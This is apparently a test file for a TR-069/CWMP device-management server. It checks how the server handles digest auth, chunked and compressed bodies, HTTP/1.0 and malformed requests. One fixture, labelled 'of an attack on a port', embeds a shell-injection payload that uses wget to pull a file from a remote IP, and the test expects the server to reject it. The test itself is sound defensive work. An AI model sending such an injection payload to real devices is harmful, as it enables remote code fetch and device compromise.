import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { answerChallenge, ha1 } from '@sluice/http-auth'
import { answered } from '@sluice/contracts'
import { answerValues } from '../testing/cpe.ts'
import { type Field, openField } from './field.ts'
import { chunkedPost, rawPost } from './raw-line.ts'
import { DOWNLOAD_ACCEPTED, enveloped, transferComplete } from './written.ts'

let field: Field
beforeAll(async () => {
  field = await openField()
})
afterAll(() => field.close())

test('quirk 4: a new connection after 401 is no stranger', async () => {
  const { port } = await field.stand.open({ auth: 'digest' })
  const cpe = field.cpe()
  const username = `00D09E-HomeBox-${cpe.serial}`
  const candidate = { role: 'own', username, ha1: ha1(username, 'sluice', 'right') } as const
  field.stand.onCredential = () => answered({ kind: 'known', candidates: [candidate] })
  const first = await field.line(port)
  const challenged = await first.ask(rawPost(cpe.written()))
  expect([challenged.status, challenged.body]).toEqual([401, ''])
  first.drop()
  const challenges = challenged.headers.get('www-authenticate') ?? ''
  const about = { challenges, method: 'POST', uri: '/acs', cnonce: 'abc', nc: 1, username, password: 'right' }
  const answer = answerChallenge(about)
  const second = await field.line(port)
  const authorization = answer.kind === 'answer' ? answer.authorization : ''
  const heard = await second.ask(rawPost(cpe.written(), `Authorization: ${authorization}`))
  expect([heard.status, heard.body.includes('InformResponse')]).toEqual([200, true])
  expect(await cpe.informs()).toHaveLength(1)
})

test('quirk 39: every reply says its length, the one without a body too', async () => {
  const cpe = field.cpe()
  const line = await field.line()
  const ask = async (bytes: Buffer) => {
    const { status, headers, body } = await line.ask(bytes)
    expect(headers.get('content-length')).toBe(String(Buffer.byteLength(body)))
    expect(headers.has('transfer-encoding')).toBe(false)
    return status
  }
  expect(await ask(rawPost(''))).toBe(204)
  expect(await ask(rawPost('nonsense'))).toBe(400)
  expect(await ask(rawPost(cpe.written()))).toBe(200)
  expect(await ask(rawPost('', 'Content-Encoding: br'))).toBe(415)
  expect(await ask(Buffer.from('GET / HTTP/1.1\r\nHost: a\r\n\r\n'))).toBe(405)
})

const chunkings: readonly (readonly [string, readonly number[]])[] = [
  ['one chunk', []],
  ['chunks of one byte', Array.from({ length: 64 }, () => 1)],
  ['chunks cut within an element', [200, 1, 33]],
]

test.each(chunkings)('quirk 40: a body in %s is that body, and not an empty POST', async (_, sizes) => {
  const cpe = field.cpe()
  await cpe.isAsked({ method: 'GetRPCMethods' })
  const line = await field.line()
  const heard = await line.ask(chunkedPost(cpe.written(), sizes))
  expect([heard.status, heard.body.includes('InformResponse')]).toEqual([200, true])
  const cookie = `Cookie: ${heard.headers.get('set-cookie')?.split(';')[0]}`
  expect((await line.ask(chunkedPost('', [], cookie))).body).toContain('<cwmp:GetRPCMethods>')
  const response = enveloped('<cwmp:GetRPCMethodsResponse><MethodList/></cwmp:GetRPCMethodsResponse>')
  expect((await line.ask(chunkedPost(response, sizes, cookie))).status).toBe(204)
  expect(await cpe.reports(1)).toMatchObject([{ result: { kind: 'response' } }])
})

const codings: readonly (readonly [string, string, (text: string) => Buffer])[] = [
  ['gzip', 'gzip', (text) => gzipSync(text)],
  ['deflate', 'deflate', (text) => deflateSync(text)],
  ['bare deflate', 'deflate', (text) => deflateRawSync(text)],
]

test.each(codings)('quirk 41: a body in %s is read, and answered uncompressed', async (_, coding, pack) => {
  const cpe = field.cpe()
  const heard = await cpe.post(pack(cpe.written({ events: ['1 BOOT'] })), { 'content-encoding': coding })
  expect([heard.status, heard.rpc, heard.headers['content-encoding']]).toEqual([200, 'InformResponse', undefined])
  expect(await cpe.informs()).toMatchObject([{ events: [{ code: '1 BOOT' }] }])
})

test('quirk 42: of two envelopes in one POST both are taken, and the first is answered', async () => {
  const cpe = field.cpe()
  await cpe.contact()
  const one = enveloped(`<cwmp:TransferComplete>${transferComplete('one')}</cwmp:TransferComplete>`)
  const two = enveloped(`<cwmp:TransferComplete>${transferComplete('two', 9010)}</cwmp:TransferComplete>`)
  expect((await cpe.post(one + two)).rpc).toBe('TransferCompleteResponse')
  expect(await cpe.facts(2)).toMatchObject([
    { kind: 'transfer_completed', commandKey: 'one', faultCode: 0 },
    { kind: 'transfer_completed', commandKey: 'two', faultCode: 9010 },
  ])
})

test('quirk 42: what comes behind an Inform is not lost', async () => {
  const cpe = field.cpe()
  const complete = enveloped(`<cwmp:TransferComplete>${transferComplete('k')}</cwmp:TransferComplete>`)
  expect((await cpe.post(cpe.written({ events: ['7 TRANSFER COMPLETE'] }) + complete)).rpc).toBe('InformResponse')
  expect(await cpe.facts(1)).toMatchObject([{ kind: 'transfer_completed', commandKey: 'k' }])
  expect((await cpe.post(complete)).rpc).toBe('TransferCompleteResponse')
})

test('quirk 43: an upgrade goes over a connection per request, in HTTP/1.0, without Host', async () => {
  const cpe = field.cpe()
  await cpe.isHinted(43)
  let cookie = ''
  const ask = async (body: string) => {
    const line = await field.line()
    const head = `POST /acs HTTP/1.0\r\nContent-Length: ${Buffer.byteLength(body)}\r\n${cookie}\r\n`
    const heard = await line.ask(head + body)
    await line.closed
    const set = heard.headers.get('set-cookie')
    if (set !== undefined) cookie = `Cookie: ${set.split(';')[0]}\r\n`
    return { ...heard, rpc: '', id: '', headers: {} }
  }
  await ask(cpe.written())
  const asked = await ask('')
  const values = answerValues(asked, () => 'x')
  const heard = await ask(enveloped(`<cwmp:GetParameterValuesResponse>${values}</cwmp:GetParameterValuesResponse>`))
  expect(heard.body).toContain('<cwmp:Download>')
  expect((await ask(enveloped(`<cwmp:DownloadResponse>${DOWNLOAD_ACCEPTED}</cwmp:DownloadResponse>`))).status).toBe(204)
  expect(await cpe.facts(1)).toMatchObject([{ kind: 'download_answered', status: 1 }])
})

const requestLines = [
  'POST / HTTP/1.1',
  'POST http://acs.example:7547/acs?x=1 HTTP/1.1',
  '\r\n\r\nPOST /any/where HTTP/1.1',
  'POST /acs HTTP/1.0',
]

test.each(requestLines)('quirk 43: the request line %j is taken', async (requestLine) => {
  const inform = field.cpe().written()
  const line = await field.line()
  const head = `${requestLine}\r\nHost: acs\r\nContent-Length: ${Buffer.byteLength(inform)}\r\n\r\n`
  expect((await line.ask(head + inform)).body).toContain('InformResponse')
})

test('quirk 44: an Inform repeated without end is answered each time, and costs its device nothing', async () => {
  const cpe = field.cpe()
  await cpe.isHinted(44)
  for (let again = 0; again < 40; again++) {
    const line = await field.line()
    const heard = await line.ask(rawPost(cpe.written().replace('<RetryCount>0', `<RetryCount>${1_446 + again}`)))
    expect(heard.status).toBe(200)
    if (again % 2 === 0) line.drop()
  }
  expect((await cpe.record()).tasks).toHaveLength(1)
  expect((await cpe.toDownload()).rpc).toBe('Download')
  expect(field.stand.claims.filter(({ deviceKey }) => deviceKey === cpe.deviceKey)).toHaveLength(1)
})

test('quirk 44: a connection closed in the middle of a message changes nothing', async () => {
  const cpe = field.cpe()
  await cpe.isAsked({ method: 'GetRPCMethods' })
  await cpe.contact()
  const line = await field.line()
  const response = rawPost(enveloped('<cwmp:GetRPCMethodsResponse/>'), `Cookie: ${cpe.cookie}`)
  expect((await cpe.empty()).rpc).toBe('GetRPCMethods')
  line.send(response.subarray(0, -30))
  line.drop()
  expect((await cpe.say('GetRPCMethodsResponse', '<MethodList/>')).status).toBe(204)
  expect(await cpe.reports(1)).toMatchObject([{ result: { kind: 'response' } }])
})

const strange: readonly (readonly [string, string])[] = [
  ['of a scanner', 'hello=world&x=1'],
  ['of a web page', '<!doctype html><html><body>hi</body></html>'],
  ['of another SOAP', '<Envelope><Body><GetStock xmlns="urn:x"/></Body></Envelope>'.replaceAll('Envelope', 'Letter')],
  ['of JSON', '{"jsonrpc":"2.0","method":"x"}'],
  ['of zeros', '\0'.repeat(64)],
  ['of an attack on a port', '<Envelope>`cd /tmp;wget http://192.0.2.66/x`</Envelope>'],
]

test.each(strange)('quirk 50: a body %s is 400 without SOAP, and never an empty POST', async (_, body) => {
  const cpe = field.cpe()
  await cpe.isAsked({ method: 'GetRPCMethods' })
  expect((await cpe.post(body)).status).toBe(400)
  await cpe.contact()
  const heard = await cpe.post(body)
  expect([heard.status, heard.body.includes('<')]).toEqual([400, false])
  expect((await cpe.record()).tasks).toHaveLength(1)
  expect((await cpe.empty()).status).toBe(400)
  await cpe.contact()
  expect((await cpe.empty()).rpc).toBe('GetRPCMethods')
})

const types = [
  'text/html',
  'application/soap+xml; charset=utf-8',
  'application/x-www-form-urlencoded',
  'text/xml;charset',
  ';',
]

test.each(types)('quirk 52: a Content-Type of %s is taken', async (type) => {
  const cpe = field.cpe()
  expect((await cpe.post(cpe.written(), { 'content-type': type })).rpc).toBe('InformResponse')
})

test('quirk 52: so is none, and an empty one', async () => {
  const cpe = field.cpe()
  const line = await field.line()
  expect((await line.ask(rawPost(cpe.written()))).status).toBe(200)
  expect((await line.ask(rawPost(cpe.written(), 'Content-Type:'))).status).toBe(200)
})
